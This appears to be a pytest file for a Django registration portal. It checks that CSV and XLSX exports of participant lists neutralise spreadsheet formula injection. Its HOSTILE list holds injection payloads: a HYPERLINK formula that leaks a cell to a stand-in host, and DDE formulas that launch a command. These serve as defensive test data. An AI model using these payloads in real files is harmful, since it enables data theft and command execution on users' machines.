"""Every spreadsheet cell a person typed is text, never a formula (issue 8, item 5).

A delegate who calls themself `=HYPERLINK(…)` must come out of every export as that text:
the public and staff lists of participants (XLSX), and the admin's CSV and XLSX exports.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import reverse
from openpyxl import load_workbook

from idm_portal.guards import exports
from registrations.models.lifecycle import Registration
from registrations.renderers import participants_lists as participants_lists_renderers
from tests.idm_portal.factories import SecretariatStaffFactory
from tests.registrations.factories import DelegateProfileFactory, RegistrationFactory
from tests.workshops.factories import WorkshopFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BASE_DIR = Path(__file__).resolve().parents[2]


def formulas_in(xlsx: bytes) -> list[str]:
    """The formulas an XLSX file holds, read from its sheets' XML (<f> elements)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [
            match
            for name in sheets
            for match in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def text_cells(xlsx: bytes) -> dict[str, str]:
    """Every cell's value, by value, with its openpyxl data type."""
    sheet = load_workbook(io.BytesIO(xlsx)).active
    return {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_starting_like_a_formula_is_neutralised(value):
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Diallo", "O'Brien", "Côte d'Ivoire", "a=b", 5, -5])
def test_ordinary_csv_cells_are_unchanged(value):
    assert exports.csv_cell(value) == value


def test_xlsx_text_that_looks_like_a_formula_is_a_string_cell():
    content = exports.xlsx_bytes(["name", "count"], [[value, 3] for value in HOSTILE])
    assert formulas_in(content) == []
    cells = text_cells(content)
    for value in HOSTILE:
        shown = value.replace("\r", "\n") if value.startswith("\r") else value
        assert cells.get(value, cells.get(shown)) == "s", value
    assert load_workbook(io.BytesIO(content)).active["B2"].value == 3  # numbers stay numbers


@pytest.fixture
def hostile_participants(db):
    workshop = WorkshopFactory()
    for value in HOSTILE:
        RegistrationFactory(
            workshop=workshop,
            status=Registration.Status.CONFIRMED,
            delegate=DelegateProfileFactory(
                given_names=value, position=value, institution="=1+1", family_name="Diallo"
            ),
        )
    return workshop


@pytest.mark.parametrize("staff", [False, True], ids=["public", "staff"])
def test_the_list_of_participants_spreadsheet_holds_no_formula(hostile_participants, staff):
    content = participants_lists_renderers.participants_xlsx(
        hostile_participants, "en", staff=staff
    )
    assert formulas_in(content) == []
    cells = text_cells(content)
    assert cells[HOSTILE[0]] == "s"
    assert cells["=1+1"] == "s"


@pytest.mark.parametrize("export_format", ["0", "1"], ids=["csv", "xlsx"])
def test_the_admins_registration_export_holds_no_formula(
    client, hostile_participants, export_format
):
    client.force_login(SecretariatStaffFactory())
    url = reverse("admin:registrations_registration_export")
    form = client.get(url).context["form"]
    assert [label for _value, label in form.fields["format"].choices][-2:] == ["csv", "xlsx"]
    data = {"format": export_format, "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith("registrationresource_")})
    response = client.post(url, data)
    assert response.status_code == 200
    if export_format == "0":
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
        assert "'" + HOSTILE[0] in cells
        assert "'=1+1" in cells
        assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in cells)
    else:
        assert formulas_in(response.content) == []
        assert text_cells(response.content)[HOSTILE[0]] == "s"


def test_every_admin_that_exports_offers_only_the_safe_formats():
    offered = {
        model._meta.label: model_admin.get_export_formats()
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "export_action")
    }
    assert offered, "no admin exports: this test would prove nothing"
    unsafe = {
        label: [f.__name__ for f in formats if f not in exports.SAFE_EXPORT_FORMATS]
        for label, formats in offered.items()
    }
    assert not any(unsafe.values()), unsafe


def test_spreadsheets_and_csv_files_are_written_only_by_the_exports_module():
    """One helper for every export: no other module of the portal writes XLSX or CSV."""
    writers = re.compile(r"\bopenpyxl\b|csv\.writer|csv\.DictWriter|\.export\(\s*[\"'](csv|xlsx)")
    offenders = []
    for app in ("idm_portal", "workshops", "funding", "registrations", "surveys"):
        for path in (BASE_DIR / app).rglob("*.py"):
            if (
                "migrations" in path.parts
                or path == BASE_DIR / "idm_portal" / "guards" / "exports.py"
            ):
                continue
            if writers.search(path.read_text()):
                offenders.append(str(path.relative_to(BASE_DIR)))
    assert offenders == []
